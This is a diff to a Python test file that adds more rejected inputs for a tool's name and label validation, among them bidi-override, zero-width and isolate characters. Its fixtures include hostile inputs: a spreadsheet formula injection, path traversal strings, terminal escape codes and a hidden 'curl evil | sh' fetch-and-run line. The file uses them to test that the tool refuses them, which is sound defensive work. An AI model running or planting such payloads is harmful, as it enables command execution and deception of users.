@@ -39,13 +39,16 @@ NAMES = (
     "-rf --out=..",
     "..",
     "=cmd|' C calc'!A0",
-    "\u202egnp.exe \u00e4\u20ac\U0001f6b6\u202f",
+    "gnp.exe \u00e4\u20ac\U0001f6b6\u202f",
 )
 REFUSED = (
     "line\nbreak",
     "\x1b[2J\x1b]0;title\x07",
     "a\u2028  next:     curl evil | sh",
     b"no\xfftext".decode(errors="surrogateescape"),
+    "\u202egnp.exe",
+    "zero\u200bwidth",
+    "\u2066isolated\u2069",
 )
 
 
@@ -109,7 +112,9 @@ def test_names_go_through_tables_and_report_as_text(tables: None, tmp_path: Path
     assert not list(tmp_path.rglob("hacked"))
 
 
-@pytest.mark.parametrize("label", ["a\nb", "\x1b[2J", "\u2028", b"\xff".decode(errors="surrogateescape"), "v" * 65])
+@pytest.mark.parametrize(
+    "label", ["a\nb", "\x1b[2J", "\u202e4pm", "a\u200bb", "\u2028", b"\xff".decode(errors="surrogateescape"), "v" * 65]
+)
 @pytest.mark.parametrize("field", ["session_label", "project", "activity", "population"])
 def test_labels_hold_no_control_characters(tmp_path: Path, field: str, label: str):
     with pytest.raises(PblError) as error:
@@ -129,7 +134,7 @@ def test_so_are_those_of_references(field: str, tmp_path: Path):
 def test_a_log_of_a_phone_with_a_hostile_name(tmp_path: Path):
     files.log_json(tmp_path / "log.json")
     content = json.loads((tmp_path / "log.json").read_text())
-    for name in ("\x1b[2J", "a\nb"):
+    for name in ("\x1b[2J", "a\nb", "a\u202eb"):
         (tmp_path / "log.json").write_text(json.dumps(content | {"phone": {"model": name}}))
         with pytest.raises(PblError, match="PHONE_LOG"):
             read_phone_log(tmp_path / "log.json")
